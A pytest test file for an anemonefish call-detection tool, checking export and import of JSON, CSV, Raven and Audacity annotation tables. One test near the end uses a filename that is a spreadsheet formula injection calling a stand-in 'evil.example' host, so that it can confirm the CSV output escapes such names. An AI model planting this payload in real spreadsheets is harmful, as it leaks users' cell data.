"""Result documents: the pipeline.md JSON, CSV, Raven and Audacity, checked against a real Raven table."""

from __future__ import annotations

import codecs
import csv
import dataclasses
import io
import json
from pathlib import Path

import numpy as np
import pytest

from anemonefish.audio import AudioInfo
from anemonefish.card import FrontEndConfig
from anemonefish.detect import DetectionResult
from anemonefish.events import Event
from anemonefish.exceptions import AnnotationFormatError
from anemonefish.formats import (
    RAVEN_COLUMNS,
    document_name,
    parse_annotations,
    read_annotations,
    render_document,
    result_document,
    write_documents,
)
from anemonefish.params import DetectionParams
from support import REAL_RAVEN

EVENTS = [
    Event(start=4.4, end=5.4, label="anemonefish", confidence=0.81, peak_confidence=0.97),
    Event(start=12.0, end=12.6, label="anemonefish", confidence=0.66, peak_confidence=0.7),
]


@pytest.fixture()
def result() -> DetectionResult:
    frontend = FrontEndConfig()
    scores = np.tile(np.array([[0.7, 0.2, 0.1]], np.float32), (4, 1))
    return DetectionResult(
        audio=AudioInfo("reef 01.wav", 489.1, 48000, 1, 489.1 * 48000, "WAV", "PCM_16"),
        model={"name": "anemonefish-cnn", "version": "1.0.0", "classes": ["noise", "anemonefish", "biological"]},
        params=DetectionParams(), frontend=frontend, classes=["noise", "anemonefish", "biological"],
        events=EVENTS, scores=scores, window_starts=np.arange(4) * 0.2, processing_time_s=1.9,
    )


def test_json_is_the_pipeline_result_document(result: DetectionResult) -> None:
    doc = json.loads(render_document(result, "json", job_id="job-1"))
    assert doc["job_id"] == "job-1"
    assert doc["audio"] == {**doc["audio"], "filename": "reef 01.wav", "duration_s": 489.1, "sample_rate": 48000, "channels": 1}
    assert doc["model"]["classes"] == ["noise", "anemonefish", "biological"]
    assert {"threshold", "window_s", "stride_s", "min_event_s", "min_gap_s", "smoothing_windows", "target_class"} <= set(doc["params"])
    assert doc["processing_time_s"] == 1.9
    assert doc["events"][0] == {"start": 4.4, "end": 5.4, "label": "anemonefish", "confidence": 0.81, "peak_confidence": 0.97}


def test_raven_table_has_the_columns_and_layout_of_a_real_raven_table(result: DetectionResult) -> None:
    real_header = REAL_RAVEN.read_text().splitlines()[0].split("\t")
    ours = render_document(result, "raven").splitlines()
    header = ours[0].split("\t")
    # Raven's leading columns, in Raven's order and spelling, as the real table has them
    leading = ["Selection", "View", "Channel", "Begin Time (s)", "End Time (s)"]
    assert header[:5] == real_header[:5] == leading
    assert {"Low Freq (Hz)", "High Freq (Hz)", "Begin File", "File Offset (s)", "Confidence"} <= set(real_header) & set(header)
    rows = [line.split("\t") for line in ours[1:]]
    assert all(len(row) == len(RAVEN_COLUMNS) for row in rows)
    assert [row[0] for row in rows] == ["1", "2"]
    assert rows[0][1] == "Spectrogram 1" and rows[0][2] == "1"
    assert float(rows[1][3]) == 12.0 and float(rows[1][4]) == 12.6
    assert document_name("reef", "raven") == "reef.Table.1.selections.txt"  # Raven's convention, like the real file


def test_reads_the_real_raven_table() -> None:
    events = read_annotations(REAL_RAVEN)
    rows = [r for r in csv.DictReader(io.StringIO(REAL_RAVEN.read_text()), delimiter="\t")]
    assert len(events) == len(rows) >= 14
    assert events[0].start == 1.0 and events[0].end == pytest.approx(1.2)
    assert events[2].start == pytest.approx(5.35)
    assert {e.label for e in events} == {"FS"}  # the 'Class' column
    assert events[0].confidence == pytest.approx(0.998350977897644)


def test_the_real_raven_table_saved_again_as_csv_reads_the_same() -> None:
    """A spreadsheet's round trip turns Raven's tabs into commas; the columns stay Raven's."""
    rows = list(csv.reader(io.StringIO(REAL_RAVEN.read_text()), delimiter="\t"))
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    as_csv = parse_annotations(buffer.getvalue(), "reef.csv")
    assert [(e.start, e.end, e.label) for e in as_csv] == [(e.start, e.end, e.label) for e in read_annotations(REAL_RAVEN)]


@pytest.mark.parametrize("fmt", ["raven", "audacity", "csv", "json"])
def test_every_event_format_round_trips(result: DetectionResult, fmt: str) -> None:
    parsed = parse_annotations(render_document(result, fmt))
    assert [(e.start, e.end, e.label) for e in parsed] == [(e.start, e.end, e.label) for e in EVENTS]


def test_audacity_labels_are_three_tab_separated_columns(result: DetectionResult) -> None:
    lines = render_document(result, "audacity").splitlines()
    assert lines == ["4.400000\t5.400000\tanemonefish", "12.000000\t12.600000\tanemonefish"]


def test_audacity_reader_skips_spectral_lines() -> None:
    events = parse_annotations("1.0\t2.0\tpop\n\\\t300.0\t900.0\n3.5\t3.9\n")
    assert [(e.start, e.label) for e in events] == [(1.0, "pop"), (3.5, "anemonefish")]


def test_scores_document_lists_every_window(result: DetectionResult) -> None:
    rows = list(csv.reader(io.StringIO(render_document(result, "scores"))))
    assert rows[0] == ["start", "end", "noise", "anemonefish", "biological"]
    assert len(rows) == 5 and rows[2][:2] == ["0.2", "1.2"]


def test_write_documents_writes_each_named_file(tmp_path: Path, result: DetectionResult) -> None:
    written = write_documents(result, tmp_path / "out", "reef", ["json", "csv", "raven", "audacity", "scores"])
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(
        ["reef.events.json", "reef.events.csv", "reef.Table.1.selections.txt", "reef.labels.txt", "reef.scores.csv"]
    )
    assert written["json"].read_text().startswith("{")


def test_unknown_format_writes_nothing(tmp_path: Path, result: DetectionResult) -> None:
    with pytest.raises(ValueError, match="unknown format 'xlsx'"):
        write_documents(result, tmp_path, "reef", ["json", "xlsx"])
    assert list(tmp_path.iterdir()) == []


def test_garbage_annotations_are_refused_with_the_line() -> None:
    with pytest.raises(AnnotationFormatError, match="notes.txt:2"):
        parse_annotations("1.0\t2.0\tok\nhello there\n", "notes.txt")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        # a Raven row cut short: the end time is missing
        ("Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\n1\tSpectrogram 1\t1\t9.83\n", r"t.txt:2 \(End Time \(s\)\): a time is missing"),
        ("start,end,label\n-1.0,2.0,anemonefish\n", "t.txt:2: start -1 and end 2 must satisfy 0 <= start <= end"),
        ("start,end,label\n3.0,2.0,anemonefish\n", "t.txt:2: start 3 and end 2"),
        ("1.0\t2.0\tok\n5.0\t4.0\tok\n", "t.txt:2: start 5 and end 4"),
    ],
)
def test_bad_annotation_rows_are_named_by_file_and_line(text: str, message: str) -> None:
    with pytest.raises(AnnotationFormatError, match=message):
        parse_annotations(text, "t.txt")


def test_a_confidence_column_of_words_is_not_an_error() -> None:
    """People grade their own certainty in words; scoring never uses an annotation's confidence."""
    events = parse_annotations("start,end,label,confidence\n9.83,10,anemonefish,high\n1,2,anemonefish,0.5\n", "t.csv")
    assert [(e.start, e.confidence) for e in events] == [(9.83, None), (1.0, 0.5)]


def test_the_result_document_says_how_windows_became_events(result: DetectionResult) -> None:
    """``evaluate --sweep`` re-runs the post-processing from it, and that depends on the event timing."""
    params = result_document(result)["params"]
    assert params["event_timing"] == result.frontend.event_timing
    # The timing of the class the events are of, which is all a sweep re-runs.
    other = dataclasses.replace(
        result,
        params=result.params.model_copy(update={"target_class": "biological"}),
        frontend=result.frontend.model_copy(update={"class_event_timing": {"biological": "overlap"}}),
    )
    assert result_document(other)["params"]["event_timing"] == "overlap"
    assert (params["fmin"], params["fmax"], params["window_s"], params["stride_s"]) == (
        result.frontend.fmin, result.frontend.fmax, result.frontend.window_s, result.frontend.stride_s,
    )


def test_a_raven_selection_shown_in_several_views_counts_once() -> None:
    text = (
        "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tAnnotation\n"
        "1\tWaveform 1\t1\t1.0\t1.2\tanemonefish\n"
        "1\tSpectrogram 1\t1\t1.0\t1.2\tanemonefish\n"
        "1\tSpectrogram 2\t1\t1.0\t1.2\tanemonefish\n"
        "2\tSpectrogram 1\t1\t4.0\t4.3\tanemonefish\n"
        "2\tSpectrogram 2\t1\t4.0\t4.3\tanemonefish\n"
    )
    assert [(e.start, e.end) for e in parse_annotations(text, "t.txt")] == [(1.0, 1.2), (4.0, 4.3)]


def test_a_recordings_documents_are_written_all_or_none(tmp_path: Path, result: DetectionResult, monkeypatch: pytest.MonkeyPatch) -> None:
    """A full disk on the third file must not leave two new files beside two old ones."""
    import anemonefish.formats as formats

    out = tmp_path / "out"
    write_documents(result, out, "reef", ["json", "csv", "raven", "audacity"])
    before = {p.name: p.read_text() for p in out.iterdir()}
    real_staged, calls = formats._staged, []

    def full_disk(path: Path, text: str) -> Path:
        calls.append(path.name)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        return real_staged(path, "changed " + text)

    monkeypatch.setattr(formats, "_staged", full_disk)
    with pytest.raises(OSError, match="No space"):
        write_documents(result, out, "reef", ["json", "csv", "raven", "audacity"])
    assert {p.name: p.read_text() for p in out.iterdir()} == before  # no temp file left either


def test_raven_channels_filter_selections_and_bad_channels_are_named() -> None:
    table = (
        "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tAnnotation\n"
        "1\tSpectrogram 1\t1\t1.0\t1.3\tanemonefish\n"
        "2\tSpectrogram 1\t2\t3.0\t3.3\tbiological\n"
    )
    assert [e.start for e in parse_annotations(table, "t.txt")] == [1.0, 3.0]  # no channel asked: all
    assert [e.start for e in parse_annotations(table, "t.txt", channel=1)] == [3.0]
    assert parse_annotations(table, "t.txt", channel=4) == []
    # Tables that name no channel apply to whichever channel is asked for.
    assert [e.start for e in parse_annotations("1.0\t1.3\tanemonefish\n", "t.txt", channel=3)] == [1.0]
    with pytest.raises(AnnotationFormatError, match=r"t.txt:3 \(Channel\): 'left' is not a channel number"):
        parse_annotations(table.replace("\t2\t3.0", "\tleft\t3.0"), "t.txt")
    with pytest.raises(AnnotationFormatError, match=r"t.txt:2 \(Channel\): '0'"):
        parse_annotations(table.replace("\t1\t1.0", "\t0\t1.0"), "t.txt")
    with pytest.raises(AnnotationFormatError, match=r"t.txt:2 \(Channel\): '1.5'"):
        parse_annotations(table.replace("\t1\t1.0", "\t1.5\t1.0"), "t.txt")
    assert [e.start for e in parse_annotations(table.replace("\t2\t3.0", "\t2.0\t3.0"), "t.txt", channel=1)] == [3.0]


def test_a_raven_selection_on_several_channels_counts_once_per_channel() -> None:
    """One Selection number, one row per view and per channel: the views are one selection,
    the channels are not (deduplicating on the number alone dropped channel 2's)."""
    table = (
        "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tAnnotation\n"
        "1\tWaveform 1\t1\t1.0\t1.3\tanemonefish\n"
        "1\tSpectrogram 1\t1\t1.0\t1.3\tanemonefish\n"
        "1\tSpectrogram 1\t2\t1.0\t1.3\tanemonefish\n"
        "2\tSpectrogram 1\t2\t3.0\t3.3\tanemonefish\n"
    )
    assert [e.start for e in parse_annotations(table, "t.txt")] == [1.0, 3.0]  # no channel: one call each
    assert [e.start for e in parse_annotations(table, "t.txt", channel=0)] == [1.0]
    assert [e.start for e in parse_annotations(table, "t.txt", channel=1)] == [1.0, 3.0]


def test_rows_that_only_share_a_selection_number_are_all_kept() -> None:
    """Merged without a channel: only the rows of one selection on several channels (same
    number, same times). A table with no View column that repeats a number keeps each row."""
    plain = "Selection\tBegin Time (s)\tEnd Time (s)\tAnnotation\n1\t1.0\t1.3\tanemonefish\n1\t5.0\t5.3\tanemonefish\n"
    assert [e.start for e in parse_annotations(plain, "t.txt")] == [1.0, 5.0]
    channels = (
        "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tAnnotation\n"
        "1\tSpectrogram 1\t1\t1.0\t1.3\tanemonefish\n"
        "1\tSpectrogram 1\t2\t2.0\t2.3\tanemonefish\n"
    )
    assert [e.start for e in parse_annotations(channels, "t.txt")] == [1.0, 2.0]


def test_the_real_raven_table_is_all_on_its_first_channel() -> None:
    from anemonefish.formats import load_annotations

    table = load_annotations(REAL_RAVEN)
    grouped = table.by_channel()
    assert list(grouped) == [0] and grouped[0] == read_annotations(REAL_RAVEN)
    assert table.channels == {0} and table.channel == 0


@pytest.mark.parametrize(("text", "starts"), [
    # A comma table with a ';' in a column's name is still a comma table.
    ("Selection,View,Channel,Begin Time (s),End Time (s),Notes; misc\n1,Spectrogram 1,1,1.5,2.0,x\n", [1.5]),
    # ';' tables are a comma-decimal spreadsheet's: "1,5" is 1.5 there.
    ("Selection;View;Channel;Begin Time (s);End Time (s)\n1;Spectrogram 1;1;1,5;2,0\n", [1.5]),
])
def test_a_spreadsheets_separator_is_the_one_its_header_uses_most(text: str, starts: list[float]) -> None:
    assert [e.start for e in parse_annotations(text, "t.txt")] == starts


def test_a_decimal_comma_outside_a_semicolon_table_is_refused_not_guessed() -> None:
    """In a comma CSV a quoted "1,234" may be a thousands separator: refused, not read as 1.234 s."""
    with pytest.raises(AnnotationFormatError, match="'1,234' is not a number"):
        parse_annotations('start,end,label\n"1,234",1240,anemonefish\n', "t.csv")
    with pytest.raises(AnnotationFormatError, match="is not a number"):
        parse_annotations("1,5\t2,0\tanemonefish\n", "labels.txt")


def test_a_label_column_left_empty_everywhere_means_the_default_label_and_a_blank_among_labels_does_not() -> None:
    from anemonefish.formats import _parse_annotations

    unused = _parse_annotations("start,end,label\n1,2,\n3,4,\n", "t.csv", "anemonefish")
    assert all(row.labelled for row in unused.rows) and {e.label for e in unused.events()} == {"anemonefish"}
    mixed = _parse_annotations("1\t2\tanemonefish\n3\t4\t\n", "labels.txt", "anemonefish")
    assert [row.labelled for row in mixed.rows] == [True, False]


@pytest.mark.parametrize("name", ["a\tb.wav", "a\nb.wav", "a\r\nb.wav", '"reef.wav', 'a "b" c.wav'])
def test_a_tab_or_line_break_in_the_recordings_name_keeps_the_tables_columns(result: DetectionResult, name: str) -> None:
    """Raven's Begin File and Audacity's label are cells of tab-separated lines: a tab there
    shifted the label into another column, and a line break split the row; a quote (Raven
    quotes nothing) joined cells up to the next one when read back."""
    named = dataclasses.replace(result, audio=dataclasses.replace(result.audio, filename=name))
    raven = render_document(named, "raven")
    assert all(line.count("\t") == len(RAVEN_COLUMNS) - 1 for line in raven.splitlines())
    assert [(e.start, e.end, e.label) for e in parse_annotations(raven)] == [(e.start, e.end, e.label) for e in EVENTS]
    assert raven.splitlines()[1].split("\t")[RAVEN_COLUMNS.index("Begin File")] == " ".join(name.replace("\t", " ").split())


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1252"])
def test_tables_saved_in_windows_encodings_read_as_the_original(tmp_path: Path, encoding: str) -> None:
    """Raven on Windows writes ANSI (an accented folder in Begin Path is not UTF-8), and
    Excel's "Unicode text" is UTF-16: both were refused as "not a text file"."""
    original = REAL_RAVEN.read_text(encoding="utf-8")
    header, _, rows = original.partition("\n")
    text = header + "\tBegin Path\n" + "".join(f"{row}\tC:\\Données\\récif\\x.wav\n" for row in rows.splitlines())
    saved = tmp_path / f"{encoding}.Table.1.selections.txt"
    saved.write_bytes(text.encode(encoding))
    assert read_annotations(saved) == read_annotations(REAL_RAVEN)


def test_a_binary_file_is_not_read_as_a_table(tmp_path: Path) -> None:
    binary = tmp_path / "x.Table.1.selections.txt"
    binary.write_bytes(b"Selection\tBegin Time (s)\x00\x01\x02" * 10)
    with pytest.raises(AnnotationFormatError, match="not a text file"):
        read_annotations(binary)


def test_detects_window_scores_are_refused_as_events_or_truth(result: DetectionResult) -> None:
    """Read as a CSV of start/end, every window became an event (292 false ones in a review)."""
    with pytest.raises(AnnotationFormatError, match="window scores"):
        parse_annotations(render_document(result, "scores"))
    # A person's CSV with other columns but no class named after the label is still a table.
    assert len(parse_annotations("start,end,low_hz,high_hz\n1.0,2.0,300,900\n")) == 1
    assert len(parse_annotations("start,end,label,anemonefish\n1.0,2.0,anemonefish,0.9\n")) == 1
    assert len(parse_annotations("start,end,LABEL,anemonefish,noise\n1.0,2.0,anemonefish,0.9,0.1\n")) == 1
    assert len(parse_annotations("start,end,anemonefish\n1.0,2.0,1\n")) == 1  # a person's presence column


def test_a_utf8_bom_before_a_stray_windows_byte_still_reads_the_header(tmp_path: Path) -> None:
    """Excel's "CSV UTF-8" with a pasted Windows-1252 character: the BOM must not become the
    header's first characters when the rest falls back to Windows-1252."""
    table = tmp_path / "x.csv"
    table.write_bytes(codecs.BOM_UTF8 + "start,end,label,note\n1.0,2.0,anemonefish,r\xe9cif\n".encode("cp1252"))
    (event,) = read_annotations(table)
    assert (event.start, event.end, event.label) == (1.0, 2.0, "anemonefish")


def test_a_spreadsheets_quoted_tab_cells_and_upper_case_label_column_read_as_meant(tmp_path: Path) -> None:
    """A spreadsheet's tab-separated save quotes cells with commas (Raven never quotes, so
    a stray quote there is text); a LABEL column is the label whatever its case."""
    from anemonefish.formats import load_annotations

    quoted = tmp_path / "reef.Table.1.selections.txt"
    quoted.write_text("Selection\tBegin Time (s)\tEnd Time (s)\tBegin File\tAnnotation\n"
                      '1\t1.0\t2.0\t"reef, site 1.wav"\t"anemonefish, adult"\n')
    table = load_annotations(quoted)
    assert [e.label for e in table.events()] == ["anemonefish, adult"]
    assert table.recordings_named == {"reef, site 1.wav"}
    assert [e.label for e in parse_annotations("start,end,LABEL\n1.0,2.0,noise\n")] == ["noise"]
    # Every cell quoted (LibreOffice's "quote all text cells"), and a note spanning two lines.
    every = '"Selection"\t"Begin Time (s)"\t"End Time (s)"\t"Annotation"\n"1"\t1.0\t2.0\t"noise"\n'
    assert [(e.start, e.label) for e in parse_annotations(every)] == [(1.0, "noise")]
    noted = 'Selection\tBegin Time (s)\tEnd Time (s)\tAnnotation\tNotes\n1\t1.0\t2.0\tnoise\t"two\nlines"\n'
    assert [(e.start, e.label) for e in parse_annotations(noted)] == [(1.0, "noise")]


@pytest.mark.parametrize("text", [
    "Start (s),End (s),Label\n1.2,1.4,anemonefish\n",
    "start_time,end_time,label\n1.2,1.4,anemonefish\n",
    "onset,offset,label\n1.2,1.4,anemonefish\n",  # DCASE's names
    "label,end,start\nanemonefish,1.4,1.2\n",  # start last, end before it
    '"start","end","label"\n1.2,1.4,anemonefish\n',  # R's write.csv, pandas' QUOTE_ALL
    "start\tend\tlabel\n1.2\t1.4\tanemonefish\n",  # tab-separated with a header
    "label, start, end\nanemonefish, 1.2, 1.4\n",  # spaces after the commas
    "Begin;End;Label\n1,2;1,4;anemonefish\n",  # a spreadsheet where the decimal separator is a comma
])
def test_tables_with_the_time_columns_people_name_are_read(text):
    """Each was refused as 'not a Raven table, CSV with start/end, or Audacity labels' (or the tab
    one as "'start' is not a number"): only a header starting 'start,' or holding ',start,' was known."""
    [event] = parse_annotations(text, "t.csv")
    assert (event.start, event.end, event.label) == (1.2, 1.4, "anemonefish")


def test_a_csvs_file_column_says_whose_rows_they_are():
    from anemonefish.formats import _parse_annotations

    table = _parse_annotations("start,end,label,file\n1.2,1.4,anemonefish,a.wav\n5.0,5.2,anemonefish,b.wav\n", "t.csv", "anemonefish")
    assert [e.start for e in table.of_recordings({"b.wav"}).events()] == [5.0]
    with pytest.raises(AnnotationFormatError, match="a start column \\('onset'\\) but no end column"):
        parse_annotations("onset,label\n1.2,anemonefish\n", "t.csv")


def test_audacity_labels_whose_first_label_names_a_time_column_are_labels_not_a_header():
    for word in ("onset", "start", "begin"):
        events = parse_annotations(f"1.0\t2.0\t{word}\n3.0\t4.0\tanemonefish\n", "labels.txt")
        assert [(e.start, e.label) for e in events] == [(1.0, word), (3.0, "anemonefish")]


def test_file_offsets_in_a_semicolon_table_read_with_a_decimal_comma():
    text = ("Selection;View;Channel;Begin Time (s);End Time (s);Begin File;File Offset (s);Annotation\n"
            "1;Spectrogram 1;1;42,5;42,8;b.wav;12,5;anemonefish\n")
    [event] = parse_annotations(text, "t.csv")
    assert (event.start, event.end) == pytest.approx((12.5, 12.8))


def test_files_clock_times_and_dates_are_not_taken_for_labels():
    from anemonefish.formats import _parse_annotations

    files = _parse_annotations("filename,onset,offset\na.wav,1,2\nb.wav,3,4\n", "t.csv", "anemonefish")
    clocks = _parse_annotations("Selection\tBegin Time (s)\tEnd Time (s)\tBegin Clock Time\tBegin Date\n"
                                "1\t1\t2\t10:00:01.000\t2019/09/20\n2\t3\t4\t10:00:03.000\t2019/09/21\n",
                                "t.txt", "anemonefish")
    assert files.label_lookalike is None and clocks.label_lookalike is None


@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&A1,"open").wav', "+1.wav", "-6dB test.wav", "@x.wav",
                                  "'=x.wav", "'quoted'.wav"])
def test_a_recording_named_like_a_formula_is_text_in_the_csv_and_reads_back_whole(
    result: DetectionResult, name: str
) -> None:
    """The CSV put the name raw on every row: a spreadsheet ran "=HYPERLINK(...)" as a formula."""
    from anemonefish.formats import _parse_annotations

    named = dataclasses.replace(result, audio=dataclasses.replace(result.audio, filename=name))
    rows = list(csv.DictReader(io.StringIO(render_document(named, "csv"))))
    assert rows and all(row["file"] == "'" + name for row in rows)
    # Read back (evaluate pairs a CSV's rows with recordings by this column), it is the name.
    table = _parse_annotations(render_document(named, "csv"), "t.csv", "anemonefish")
    assert len(table.of_recordings({name}).events()) == len(rows)
    plain = list(csv.DictReader(io.StringIO(render_document(result, "csv"))))
    assert plain[0]["file"] == "reef 01.wav"


def test_the_csv_s_duration_is_each_event_s_end_minus_its_start(result: DetectionResult) -> None:
    rows = list(csv.DictReader(io.StringIO(render_document(result, "csv"))))
    assert [float(r["duration"]) for r in rows] == [round(e.end - e.start, 4) for e in result.events]
    assert all(float(r["duration"]) < float(r["end"]) for r in rows)  # not the end again
